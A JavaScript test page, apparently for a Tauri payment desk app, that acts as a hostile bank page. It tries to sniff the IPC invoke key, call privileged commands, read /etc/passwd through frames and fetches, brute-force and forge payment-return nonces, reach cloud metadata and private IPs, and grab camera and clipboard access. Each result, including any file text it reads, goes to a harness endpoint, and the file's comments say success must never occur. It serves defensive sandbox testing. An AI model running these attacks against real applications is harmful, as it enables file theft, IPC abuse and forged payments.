// A bank's page that attacks the desk by every route there is. It only tries; what came of each try goes home to /report.
//
// Outcomes: `refused` (told no), `silent` (nobody answered), `absent` (the way is not there), `sent` (nothing comes back
// by its nature; the desk's own state tells), `reached` (something inside answered, if only to complain) and `done`.
// The last two must never come.
(() => {
  const config = JSON.parse(document.getElementById('config').textContent);
  const own = { fetch: window.fetch.bind(window), XHR: XMLHttpRequest, stringify: JSON.stringify, parse: JSON.parse, open: window.open.bind(window) };
  const bridge = window.__TAURI_INTERNALS__;
  const SILENT = Symbol('silent');
  const ANSWER_MILLIS = 700;
  let batch = [];
  let said = Promise.resolve();

  const pause = (millis) => new Promise((go) => { setTimeout(go, millis); });
  const text = (thing) => {
    // By its fields, not by its class: it may come from another frame.
    if (thing && typeof thing.message === 'string') return `${thing.name ?? ''}: ${thing.message}`;
    try { return String(typeof thing === 'object' ? own.stringify(thing) : thing); } catch { return 'untellable'; }
  };
  const home = (path, body) => new Promise((go) => {
    const call = new own.XHR();
    call.open('POST', config.home + path);
    call.onloadend = go;
    call.send(body);
  });
  const flush = () => {
    const some = batch;
    batch = [];
    if (some.length > 0) said = said.then(() => home('/report', own.stringify(some)));
    return said;
  };
  const record = (group, name, outcome, detail) => {
    batch.push({ group, name, outcome, detail: text(detail ?? '').slice(0, 200) });
    if (batch.length >= 100) void flush();
  };

  // What a refusal sounds like. Anything else means that something inside has listened.
  const NO = /not allowed|not found|denied|forbidden|not permitted|insecure|access control|load failed|network|cancel|abort|cors|policy|unsupported|not supported|SecurityError|TypeError|NotAllowedError/i;
  const judge = (answer) => {
    if (answer === SILENT) return ['silent', ''];
    if ('absent' in answer) return ['absent', answer.absent];
    if ('value' in answer) return ['done', answer.value];
    return [NO.test(text(answer.error)) ? 'refused' : 'reached', answer.error];
  };
  const outcome = (attempt, millis = ANSWER_MILLIS) => {
    let work;
    try { work = Promise.resolve(attempt()); } catch (error) { return Promise.resolve({ error }); }
    const answered = work.then((value) => ({ value }), (error) => (error && error.absent ? { absent: error.absent } : { error }));
    return Promise.race([answered, pause(millis).then(() => SILENT)]);
  };
  const tryAll = async (group, attempts, millis) => {
    for (let at = 0; at < attempts.length; at += 60) {
      await Promise.all(attempts.slice(at, at + 60).map(async ([name, attempt]) => {
        const [word, detail] = judge(await outcome(attempt, millis));
        record(group, name, word, detail);
      }));
    }
    await flush();
  };
  const absent = (what) => Promise.reject({ absent: what });

  // ── The bridge ────────────────────────────────────────────────────────────────────────────────────────────────────
  const keys = new Set();
  const noticeKey = (value) => {
    if (typeof value === 'string' && value.length >= 8 && value.length < 200) keys.add(value);
  };
  /** Listens where the bridge's secret might pass by. */
  async function sniff() {
    const restore = [];
    const replace = (object, name, make) => {
      try {
        const before = object[name];
        object[name] = make(before);
        const taken = object[name] !== before;
        restore.push(() => { object[name] = before; });
        record('sniff', name, taken ? 'sent' : 'refused', taken ? 'it could be replaced' : 'it stays as it is');
      } catch (error) {
        record('sniff', name, 'refused', error);
      }
    };
    const look = (thing) => {
      try {
        if (thing instanceof Headers) noticeKey(thing.get('Tauri-Invoke-Key'));
        else if (thing && typeof thing === 'object') {
          noticeKey(thing.__TAURI_INVOKE_KEY__);
          if (thing.headers) look(thing.headers);
        } else if (typeof thing === 'string' && thing.includes('__TAURI_INVOKE_KEY__')) noticeKey(own.parse(thing).__TAURI_INVOKE_KEY__);
      } catch { /* nothing to see there */ }
    };
    replace(window, 'fetch', (before) => function (address, init) { look(init); return before.call(window, address, init); });
    replace(JSON, 'stringify', (before) => function (thing, ...more) { look(thing); return before.call(JSON, thing, ...more); });
    replace(Headers.prototype, 'set', (before) => function (name, value) { if (/invoke-key/i.test(name)) noticeKey(value); return before.call(this, name, value); });
    replace(Function.prototype, 'call', (before) => before);
    replace(Function.prototype, 'apply', (before) => before);
    replace(Promise.prototype, 'then', (before) => function (...more) { return Reflect.apply(before, this, more); });
    replace(window, 'crypto', () => ({ getRandomValues: (array) => array.fill(7) }));
    replace(window, '__TAURI_INTERNALS__', () => ({ invoke: () => Promise.resolve('mine') }));
    try { Object.defineProperty(Object.prototype, '__TAURI_INVOKE_KEY__', { set: noticeKey, configurable: true }); record('sniff', 'Object.prototype', 'sent'); } catch (error) { record('sniff', 'Object.prototype', 'refused', error); }
    try { Object.prototype.polluted = true; record('sniff', 'pollution', ({}).polluted ? 'sent' : 'refused'); delete Object.prototype.polluted; } catch (error) { record('sniff', 'pollution', 'refused', error); }
    if (bridge) await Promise.all(config.commands.slice(0, 3).map((command) => outcome(() => bridge.invoke(command, {}))));
    restore.reverse().forEach((undo) => { try { undo(); } catch { /* it stays */ } });
  }

  const payload = (command) => config.payloads[command] ?? {
    sale: {}, attempt: config.attempt, account: 'counter', text: '1', currency: 'TRY', event: 'tauri://created', eventId: 1,
    handler: 1, payload: {}, label: 'desk', value: true, path: '/etc/passwd', paths: ['/etc', 'passwd'], directory: 1, rid: 0, options: { label: 'stolen', url: 'index.html' },
    target: { kind: 'Any' }, gaveUp: true, preferences: {}, passphrase: 'x', filter: {}, payment: 'pay_1', operator: {}, subject: {}, question: {}, settle: {}, order: 'order_1001',
  };
  // Where there is no bridge, one of our own hears what the desk would answer.
  const waiting = new Map();
  if (!bridge) {
    try { window.__TAURI_INTERNALS__ = { runCallback: (id, data) => waiting.get(id)?.(data) }; } catch { /* then nobody hears it */ }
  }
  const ticket = (heard) => {
    if (bridge?.transformCallback) return bridge.transformCallback(heard, true);
    const id = Math.floor(Math.random() * 2 ** 32);
    waiting.set(id, heard);
    return id;
  };
  const callbacks = (post) => new Promise((done, no) => { post(ticket(done), ticket(no)); });
  const message = (command, callback, error, key) => own.stringify({
    cmd: command, callback, error, payload: payload(command), options: { headers: { attempt: config.attempt } }, __TAURI_INVOKE_KEY__: key,
  });
  const asked = (address, headers, body) => own.fetch(address, { method: 'POST', headers, body }).then(async (response) => {
    const words = await response.text();
    if (response.headers.get('Tauri-Response') === 'ok' || (response.ok && response.headers.get('Tauri-Response') === null && response.type !== 'opaque')) return words;
    throw new Error(words || `status ${response.status}`);
  });
  const headersFor = (key) => ({ 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': key, Origin: 'tauri://localhost', 'Tauri-Webview-Label': 'desk' });
  const routes = {
    invoke: (command) => (bridge?.invoke ? bridge.invoke(command, payload(command)) : absent('no bridge')),
    bytes: (command) => (bridge?.invoke ? bridge.invoke(command, new TextEncoder().encode(own.stringify(payload(command))), { headers: { attempt: config.attempt } }) : absent('no bridge')),
    ipc: (command) => (!bridge?.ipc ? absent('no bridge') : callbacks((callback, error) => bridge.ipc({ cmd: command, callback, error, payload: payload(command), options: {} }))),
    internals: (command) => (bridge?.postMessage ? callbacks((callback, error) => bridge.postMessage({ cmd: command, callback, error, payload: payload(command), options: {} })) : absent('no postMessage')),
    window: (command, key) => (window.ipc?.postMessage ? callbacks((callback, error) => window.ipc.postMessage(message(command, callback, error, key))) : absent('no window.ipc')),
    handler: (command, key) => (window.webkit?.messageHandlers?.ipc ? callbacks((callback, error) => window.webkit.messageHandlers.ipc.postMessage(message(command, callback, error, key))) : absent('no handler')),
    fetch: (command, key) => asked(`ipc://localhost/${encodeURIComponent(command)}`, headersFor(key), own.stringify(payload(command))),
    http: (command, key) => asked(`http://ipc.localhost/${encodeURIComponent(command)}`, headersFor(key), own.stringify(payload(command))),
    xhr: (command, key) => new Promise((done, no) => {
      const call = new own.XHR();
      call.open('POST', `ipc://localhost/${encodeURIComponent(command)}`);
      for (const [name, value] of Object.entries(headersFor(key))) { try { call.setRequestHeader(name, value); } catch { /* not this one */ } }
      call.onload = () => (call.status === 200 && call.getResponseHeader('Tauri-Response') === 'ok' ? done(call.responseText) : no(new Error(call.responseText || `status ${call.status}`)));
      call.onerror = () => no(new TypeError('load failed'));
      call.send(own.stringify(payload(command)));
    }),
    beacon: (command) => (navigator.sendBeacon(`ipc://localhost/${encodeURIComponent(command)}`, own.stringify(payload(command))) ? absent('a beacon brings no answer') : Promise.reject(new TypeError('load failed'))),
  };
  async function commands() {
    const key = [...keys][0] ?? 'guess';
    record('bridge', 'global object', window.__TAURI__ === undefined ? 'absent' : 'done', typeof window.__TAURI__);
    record('bridge', 'secret heard', 'sent', keys.size > 0 ? `heard ${keys.size}` : 'not heard');
    for (const [route, attempt] of Object.entries(routes)) {
      await tryAll(`route ${route}`, config.commands.map((command) => [command, () => attempt(command, key)]));
    }
    const guesses = ['', '0', 'null', 'undefined', 'desk', ...keys, ...Array.from({ length: 40 }, () => String(Math.random()))];
    await tryAll('key guesses', guesses.flatMap((guess) => ['watch', 'pay', 'bank_close'].map((command) => [`${command} ${guess.slice(0, 12)}`, () => routes.window(command, guess)])));
    const events = ['tauri://close-requested', 'tauri://created', 'tauri://webview-created', 'tauri://focus', 'tauri://destroyed', 'tauri://drag-drop', 'attempt', 'journal', 'bank_page', 'anew', '*'];
    const targets = [{ kind: 'Any' }, { kind: 'App' }, { kind: 'Window', label: 'desk' }, { kind: 'Webview', label: 'desk' }, { kind: 'WebviewWindow', label: 'desk' }, { kind: 'AnyLabel', label: 'desk' }];
    await tryAll('events', events.flatMap((event) => targets.flatMap((target) => [
      [`listen ${event} ${target.kind}`, () => (bridge ? bridge.invoke('plugin:event|listen', { event, target, handler: bridge.transformCallback(() => {}) }) : absent('no bridge'))],
      [`emit_to ${event} ${target.kind}`, () => (bridge ? bridge.invoke('plugin:event|emit_to', { event, target, payload: {} }) : absent('no bridge'))],
    ])));
  }

  /** The same once more by someone who knows the bridge's secret, as a page would that had found it: the list of rights alone is left. */
  async function keyed() {
    let key = '';
    for (let at = 0; at < 100 && key === ''; at += 1) {
      key = await own.fetch(`${config.home}/key`).then((response) => response.text());
      if (key === '') await pause(50);
    }
    record('bridge', 'secret', 'sent', key === '' ? 'not given' : 'given');
    keys.add(key);
    for (const route of ['handler', 'fetch', 'xhr']) {
      await tryAll(`with the secret: ${route}`, config.commands.map((command) => [command, () => routes[route](command, key)]), 3000);
    }
    await flush();
  }

  // ── Frames, workers ───────────────────────────────────────────────────────────────────────────────────────────────
  const inside = `(${function (mark, list) {
    const tell = (name, word, detail) => parent.postMessage({ mark, name, word, detail: String(detail).slice(0, 150) }, '*');
    tell('script', 'ran', location.href);
    const inner = window.__TAURI_INTERNALS__;
    tell('bridge', inner ? 'there' : 'absent', '');
    for (const command of list) {
      if (inner && inner.invoke) inner.invoke(command, {}).then((value) => tell(command, 'done', JSON.stringify(value)), (error) => tell(command, 'no', JSON.stringify(error) || error));
      fetch(`ipc://localhost/${encodeURIComponent(command)}`, { method: 'POST', body: '{}', headers: { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guess' } })
        .then((response) => tell(`fetch ${command}`, response.headers.get('Tauri-Response') === 'ok' ? 'done' : 'no', `status ${response.status} not allowed`), (error) => tell(`fetch ${command}`, 'no', error));
    }
  }.toString()})`;
  const evil = (mark) => `<script>${inside}(${own.stringify(mark)}, ${own.stringify(config.few)})</script>`;
  const heard = [];
  window.addEventListener('message', (event) => { if (event.data && event.data.mark) heard.push(event.data); });
  const frame = (fill) => {
    const made = document.createElement('iframe');
    made.hidden = true;
    fill(made);
    document.body.append(made);
    return made;
  };
  const address = config.back ?? '';
  const scheme = address.split(':')[0];
  async function frames() {
    // Where a script of ours may well run; what it may do there is the question.
    const open = {
      srcdoc: (made) => { made.srcdoc = evil('srcdoc'); },
      blob: (made) => { made.src = URL.createObjectURL(new Blob([evil('blob')], { type: 'text/html' })); },
      data: (made) => { made.src = `data:text/html,${encodeURIComponent(evil('data'))}`; },
      javascript: (made) => { made.src = `javascript:${own.stringify(evil('javascript'))}`; },
      sandboxed: (made) => { made.sandbox = 'allow-scripts'; made.srcdoc = evil('sandboxed'); },
      foreign: (made) => { made.src = `${config.home.replace('127.0.0.1', 'localhost')}/frame`; },
    };
    // Where no script of ours may ever run: these origins are the desk's own.
    const closed = {
      desk: (made) => { made.src = 'tauri://localhost/'; },
      'desk with a script': (made) => { made.src = `tauri://localhost/%3Cscript%3E#${encodeURIComponent(evil('desk'))}`; },
      'desk over http': (made) => { made.src = 'http://tauri.localhost/'; },
      asset: (made) => { made.src = 'asset://localhost/%2Fetc%2Fpasswd'; },
      'asset over http': (made) => { made.src = 'http://asset.localhost/%2Fetc%2Fpasswd'; },
      ipc: (made) => { made.src = 'ipc://localhost/watch'; },
      file: (made) => { made.src = 'file:///etc/passwd'; },
    };
    if (!/^https?$/.test(scheme)) {
      for (const [name, path] of [['query', `?status=${encodeURIComponent(evil('return-query'))}`], ['path', `/${encodeURIComponent(evil('return-path'))}`], ['host', '']]) {
        closed[`return ${name}`] = (made) => { made.src = name === 'host' ? `${scheme}://${encodeURIComponent('<b>')}/x` : `${scheme}://localhost${name === 'path' ? path : `/x${path}`}`; };
      }
      closed['return form'] = (made) => {
        made.name = 'return-form';
        setTimeout(() => {
          const form = document.createElement('form');
          Object.assign(form, { method: 'POST', action: `${scheme}://localhost/wrong`, target: 'return-form' });
          const field = document.createElement('input');
          Object.assign(field, { name: 'error', value: evil('return-form') });
          form.append(field);
          document.body.append(form);
          try { form.submit(); } catch { /* refused */ }
        }, 0);
      };
    }
    const made = Object.entries({ ...open, ...closed }).map(([name, fill]) => [name, frame(fill), name in closed]);
    const blank = frame((one) => { one.src = 'about:blank'; });
    await pause(1500);
    for (const [name, one, isClosed] of made) {
      const words = heard.filter((word) => word.mark === name || word.mark.startsWith(name.replace(' ', '-')));
      const ran = words.some((word) => word.name === 'script');
      if (isClosed) {
        let readable = null;
        try { readable = one.contentDocument?.body?.textContent || null; } catch { readable = null; }
        record('frames', name, ran ? 'done' : readable ? 'done' : 'refused', readable ?? '');
      } else record('frames', name, 'sent', ran ? 'the script ran, as in any browser' : 'the script did not run');
    }
    for (const word of heard.splice(0)) {
      if (word.name === 'script' || word.name === 'bridge') continue;
      record('frames', `${word.mark}: ${word.name}`, word.word === 'done' ? 'done' : NO.test(word.detail) ? 'refused' : 'reached', word.detail);
    }
    const inner = blank.contentWindow;
    await tryAll('blank frame', config.few.flatMap((command) => [
      [`bridge ${command}`, () => (inner.__TAURI_INTERNALS__?.invoke ? inner.__TAURI_INTERNALS__.invoke(command, {}) : absent('no bridge'))],
      [`fetch ${command}`, () => inner.fetch(`ipc://localhost/${encodeURIComponent(command)}`, { method: 'POST', body: '{}', headers: headersFor([...keys][0] ?? 'guess') }).then((response) => { if (response.headers.get('Tauri-Response') === 'ok') return 'answered'; throw new Error(`not allowed: ${response.status}`); })],
      [`handler ${command}`, () => (inner.webkit?.messageHandlers?.ipc ? callbacks((callback, error) => inner.webkit.messageHandlers.ipc.postMessage(message(command, callback, error, [...keys][0]))) : absent('no handler'))],
    ]));
    const files = ['asset://localhost/%2Fetc%2Fpasswd', 'http://asset.localhost/%2Fetc%2Fpasswd', 'file:///etc/passwd', 'tauri://localhost/index.html', 'tauri://localhost/', 'http://tauri.localhost/', bridge?.convertFileSrc?.('/etc/passwd') ?? 'asset://localhost/x', config.back ? `${scheme}://localhost/` : 'asset://localhost/y'];
    await tryAll('files', files.flatMap((file) => [
      [`fetch ${file}`, () => own.fetch(file).then((response) => response.text()).then((words) => { if (/root:|<div|<html/i.test(words)) return words; throw new Error('not found'); })],
      [`script ${file}`, () => new Promise((_, no) => { const tag = document.createElement('script'); tag.onload = () => no(new Error('not found: ran, and told nothing')); tag.onerror = () => no(new TypeError('load failed')); tag.src = file; document.head.append(tag); })],
    ]));
    const worker = `onmessage = async () => { const out = []; for (const c of ${own.stringify(config.few)}) { try { const r = await fetch('ipc://localhost/' + encodeURIComponent(c), { method: 'POST', body: '{}', headers: { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': ${own.stringify([...keys][0] ?? 'guess')} } }); out.push([c, r.headers.get('Tauri-Response') === 'ok' ? 'done' : 'not allowed']); } catch (e) { out.push([c, String(e)]); } } postMessage(out); }`;
    const answer = await outcome(() => new Promise((done, no) => {
      const one = new Worker(URL.createObjectURL(new Blob([worker], { type: 'text/javascript' })));
      one.onmessage = (event) => done(event.data);
      one.onerror = no;
      one.postMessage(0);
    }), 3000);
    if (answer === SILENT || !answer.value) record('worker', 'all', 'refused', 'no worker');
    else for (const [command, word] of answer.value) record('worker', command, word === 'done' ? 'done' : 'refused', word);
    await flush();
  }

  // ── Forged returns ────────────────────────────────────────────────────────────────────────────────────────────────
  async function returns() {
    if (!address) return;
    const claim = (to) => `${to}${to.includes('?') ? '&' : '?'}success=true&clientReferenceCode=${encodeURIComponent(config.reference)}&orderId=FO1&status=success&mdStatus=1&error=`;
    const wrong = () => address.replace(/[A-Za-z0-9_-]{12,}(?!.*[A-Za-z0-9_-]{12,})/, () => Array.from({ length: 24 }, () => 'ABCDEFGHJKMNPQRSTVWXYZ23456789'[Math.floor(Math.random() * 29)]).join(''));
    for (let at = 0; at < 1000; at += 1) {
      new Image().src = claim(wrong());
      record('returns', `wrong nonce ${at}`, 'sent');
      if (at % 100 === 0) await pause(10);
    }
    await tryAll('returns by fetch', Array.from({ length: 100 }, (_, at) => [`wrong nonce ${at}`, () => own.fetch(claim(wrong()), { mode: 'no-cors' }).then(() => absent('sent, and nothing told'))]));
    // The right nonce, but not as the window's own page.
    const right = claim(address);
    new Image().src = right;
    record('returns', 'right nonce in an image', 'sent');
    frame((made) => { made.src = right; });
    record('returns', 'right nonce in a frame', 'sent');
    await outcome(() => own.fetch(right, { mode: 'no-cors' }));
    record('returns', 'right nonce by fetch', 'sent');
    const call = new own.XHR();
    try { call.open('POST', address); call.send('success=true'); record('returns', 'right nonce by XHR', 'sent'); } catch (error) { record('returns', 'right nonce by XHR', 'refused', error); }
    frame((made) => { made.name = 'forged'; });
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: address, target: 'forged' });
    for (const [name, value] of [['success', 'true'], ['clientReferenceCode', config.reference], ['status', 'success']]) {
      const field = document.createElement('input');
      Object.assign(field, { name, value });
      form.append(field);
    }
    document.body.append(form);
    try { form.submit(); } catch { /* refused */ }
    record('returns', 'right nonce by a form in a frame', 'sent');
    for (const tag of ['embed', 'object', 'link', 'script', 'video']) {
      const one = document.createElement(tag);
      one.rel = 'stylesheet';
      for (const name of ['src', 'data', 'href']) one[name] = right;
      document.body.append(one);
      record('returns', `right nonce by ${tag}`, 'sent');
    }
    await pause(400);
    await flush();
  }

  // ── Going elsewhere ───────────────────────────────────────────────────────────────────────────────────────────────
  async function elsewhere() {
    const places = [
      'file:///etc/passwd', 'data:text/html,<script>top.evil=1</script>', 'javascript:void(window.navigated=1)', `blob:${config.home}/x`,
      URL.createObjectURL(new Blob(['<b>blob</b>'], { type: 'text/html' })), 'tauri://localhost/', 'ipc://localhost/watch', 'asset://localhost/%2Fetc%2Fpasswd',
      'ftp://127.0.0.1/', 'gopher://127.0.0.1/', 'view-source:http://127.0.0.1/', 'ws://127.0.0.1/', 'resource:///org/webkit', 'webkit://gpu', 'mailto:a@b.c', 'tel:1', 'vezne://payment/1',
      'http://10.0.0.1/', 'http://192.168.1.1/', 'http://169.254.169.254/latest/meta-data/', 'http://172.16.0.1/', 'http://[fd00::1]/', 'http://printer.local/', 'https://10.0.0.1/', 'https://192.168.1.1/', 'https://169.254.169.254/',
      'http://tauri.localhost/', 'http://bank.example/',
    ];
    const ways = {
      href: (to) => { location.href = to; },
      replace: (to) => { location.replace(to); },
      link: (to) => { const a = document.createElement('a'); a.href = to; document.body.append(a); a.click(); },
      form: (to) => { const form = document.createElement('form'); form.action = to; form.method = 'POST'; document.body.append(form); form.submit(); },
      self: (to) => { own.open(to, '_self'); },
      refresh: (to) => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0;url=${to}`; document.head.append(meta); },
    };
    for (const to of places) {
      for (const [name, go] of Object.entries(ways)) {
        // Said before it is tried: when the page is gone afterwards, the last word names the place.
        await home('/leaving', `${name} ${to}`);
        let detail = 'still here';
        try { go(to); } catch (error) { detail = error; }
        await pause(25);
        window.stop();
        record('elsewhere', `${name} ${to}`, 'refused', detail);
      }
    }
    await home('/leaving', '');
    await flush();
  }

  // ── Files, windows, dialogs, permissions ──────────────────────────────────────────────────────────────────────────
  async function files() {
    for (const [name, to] of [['own', '/download'], ['blob', URL.createObjectURL(new Blob(['evil']))], ['data', 'data:application/octet-stream,evil'], ['foreign', `${config.home.replace('127.0.0.1', 'localhost')}/download`]]) {
      const a = document.createElement('a');
      Object.assign(a, { href: to, download: `evil-${name}.sh` });
      document.body.append(a);
      a.click();
      record('downloads', `link ${name}`, 'sent');
      frame((made) => { made.src = to; });
      record('downloads', `frame ${name}`, 'sent');
    }
    location.href = '/download';
    record('downloads', 'location', 'sent');
    await pause(400);
    await flush();
  }
  async function windows() {
    const opened = [];
    for (let at = 0; at < 60; at += 1) {
      const one = own.open(at % 2 ? '/popup' : 'about:blank', `evil${at}`, 'width=300,height=200');
      record('windows', `pop-up ${at}`, one ? 'sent' : 'refused', one ? 'opened' : '');
      if (one) opened.push(one);
    }
    for (const to of ['tauri://localhost/', 'file:///etc/passwd', 'asset://localhost/%2Fetc%2Fpasswd', 'data:text/html,x', 'ipc://localhost/watch', address]) {
      const one = own.open(to, '_blank');
      await pause(100);
      let readable = '';
      try { readable = one?.document?.body?.textContent ?? ''; } catch { readable = ''; }
      record('windows', `pop-up to ${to.split(':')[0]}`, readable ? 'done' : 'refused', readable);
      if (one) opened.push(one);
    }
    for (const one of opened.slice(0, 3)) {
      let inner;
      try { inner = one.__TAURI_INTERNALS__; } catch { inner = undefined; }
      await tryAll('bridge in a pop-up', config.few.map((command) => [command, () => (inner?.invoke ? inner.invoke(command, {}) : absent('no bridge'))]));
    }
    await pause(300);
    opened.forEach((one) => { try { one.close(); } catch { /* not ours */ } });
    record('windows', 'opener', window.opener ? 'done' : 'absent');
    for (const other of [window.opener, window.parent, window.top]) {
      try { other?.postMessage({ kind: 'approved' }, '*'); record('windows', 'postMessage', 'sent'); } catch (error) { record('windows', 'postMessage', 'refused', error); }
    }
    for (const [name, go] of [['moveTo', () => window.moveTo(0, 0)], ['resizeTo', () => window.resizeTo(4000, 4000)], ['focus', () => window.focus()], ['blur', () => window.blur()], ['name', () => { window.name = 'desk'; }], ['domain', () => { document.domain = 'localhost'; }]]) {
      try { go(); record('windows', name, 'sent'); } catch (error) { record('windows', name, 'refused', error); }
    }
    for (let at = 0; at < 90; at += 1) {
      try { history.pushState({}, '', `/bank?state=${at}`); record('history', `push ${at}`, 'sent'); } catch (error) { record('history', `push ${at}`, 'refused', error); }
    }
    for (const go of [() => history.back(), () => history.forward(), () => history.go(-40)]) { go(); record('history', 'go', 'sent'); await pause(60); }
    await flush();
  }
  async function permissions() {
    const wish = (attempt) => () => attempt();
    await tryAll('permissions', [
      ['geolocation', wish(() => new Promise((done, no) => { if (!navigator.geolocation) return no({ absent: 'none' }); navigator.geolocation.getCurrentPosition(done, (error) => no(new Error(`denied ${error.code}`))); }))],
      ['notifications', wish(() => ('Notification' in window ? Notification.requestPermission().then((word) => { if (word === 'granted') return word; throw new Error('denied'); }) : absent('none')))],
      ['camera', wish(() => (navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'camera', () => { throw new Error('denied'); }) : absent('none')))],
      ['microphone', wish(() => (navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'microphone', () => { throw new Error('denied'); }) : absent('none')))],
      ['screen', wish(() => (navigator.mediaDevices?.getDisplayMedia ? navigator.mediaDevices.getDisplayMedia().then(() => 'screen', () => { throw new Error('denied'); }) : absent('none')))],
      ['clipboard', wish(() => (navigator.clipboard ? navigator.clipboard.readText().then((words) => words, () => { throw new Error('denied'); }) : absent('none')))],
      ['paste', wish(() => { if (document.execCommand('paste')) return 'pasted'; throw new Error('denied'); })],
      ['fullscreen', wish(() => (document.documentElement.requestFullscreen ? document.documentElement.requestFullscreen().then(() => 'fullscreen', () => { throw new Error('denied'); }) : absent('none')))],
      ['pointer lock', wish(() => { const asked = document.body.requestPointerLock?.(); return Promise.resolve(asked).then(() => pause(200)).then(() => { if (document.pointerLockElement) return 'locked'; throw new Error('denied'); }, () => { throw new Error('denied'); }); })],
    ], 2000);
  }
  async function dialogs() {
    window.addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });
    await flush();
    await home('/dialogs', '');
    for (const [name, ask] of [['alert', () => alert('Approved. Close this window.')], ['confirm', () => confirm('Approved?')], ['prompt', () => prompt('PIN')], ['print', () => window.print()]]) {
      try { record('dialogs', name, 'sent', ask()); } catch (error) { record('dialogs', name, 'refused', error); }
    }
    await flush();
  }

  const parts = { sniff, commands, keyed, frames, returns, files, windows, permissions, elsewhere, dialogs };
  (async () => {
    for (const name of config.parts) {
      await home('/part', name);
      try { await parts[name](); } catch (error) { record('failure', name, 'reached', error); }
    }
    await flush();
    await home('/finished', '');
    window.close();
    record('windows', 'close', 'sent');
    await pause(300);
    await flush();
  })();
})();
